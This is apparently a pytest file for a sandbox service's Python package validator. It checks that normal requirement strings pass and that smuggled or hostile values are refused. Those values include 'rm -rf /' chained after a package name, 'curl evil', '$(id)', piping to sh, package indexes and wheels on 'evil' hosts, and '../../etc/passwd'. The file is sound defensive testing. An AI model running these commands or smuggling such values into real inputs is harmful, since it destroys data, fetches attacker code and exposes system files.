from __future__ import annotations

import pytest

from llm_sandbox_mcp.errors import InvalidRequest
from llm_sandbox_mcp.languages import get_language


@pytest.mark.parametrize(
    "spec", ["requests", "numpy==2.1.0", "pandas[excel,perf]>=2,<3", "Django~=5.0", "zope.interface", "a_b-c.d"]
)
def test_python_accepts_plain_requirements(spec: str) -> None:
    assert get_language("python").check_libraries([spec]) == [spec]


@pytest.mark.parametrize(
    "spec",
    [
        "requests; rm -rf /",
        "requests && curl evil",
        "$(id)",
        "`id`",
        "numpy|sh",
        "--index-url=http://evil/simple",
        "-e .",
        "git+https://github.com/x/y",
        "https://evil/pkg.whl",
        "../../etc/passwd",
        "/tmp/pkg.whl",
        "numpy==1.0 ; python_version<'4'",
        "pkg\nother",
        "",
        "name with space",
        "pkg @ file:///x",
    ],
)
def test_python_refuses_options_urls_paths_and_shell(spec: str) -> None:
    with pytest.raises(InvalidRequest, match="Invalid Python library"):
        get_language("python").check_libraries([spec])


def test_specs_are_deduplicated_and_sorted_for_a_stable_cache_key() -> None:
    assert get_language("python").check_libraries(["b", "a", "b"]) == ["a", "b"]


def test_unknown_language_lists_the_supported_ones() -> None:
    with pytest.raises(InvalidRequest, match=r"Unsupported language 'cobol'\. Supported: python"):
        get_language("cobol")


def test_aliases_resolve() -> None:
    assert get_language("Python3").name == "python"
